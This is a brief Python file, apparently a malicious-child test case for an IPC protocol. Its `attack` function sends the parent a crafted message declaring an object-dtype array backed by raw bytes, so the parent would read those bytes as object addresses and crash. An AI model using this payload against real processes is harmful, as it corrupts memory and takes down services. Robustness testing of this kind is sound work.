"""Send an array of Python objects, whose bytes the parent would take for addresses."""

import os
import struct

STATUS = "crashed"


def attack(target):
    key = b"k" * 8
    text = b'{"status":"ok","value":{"%s":["|O8",[2],0]}}' % key.hex().encode()
    os.write(3, struct.pack("!8sQQ", key, len(text), 16) + text + b"\x10" * 16)
    os._exit(0)
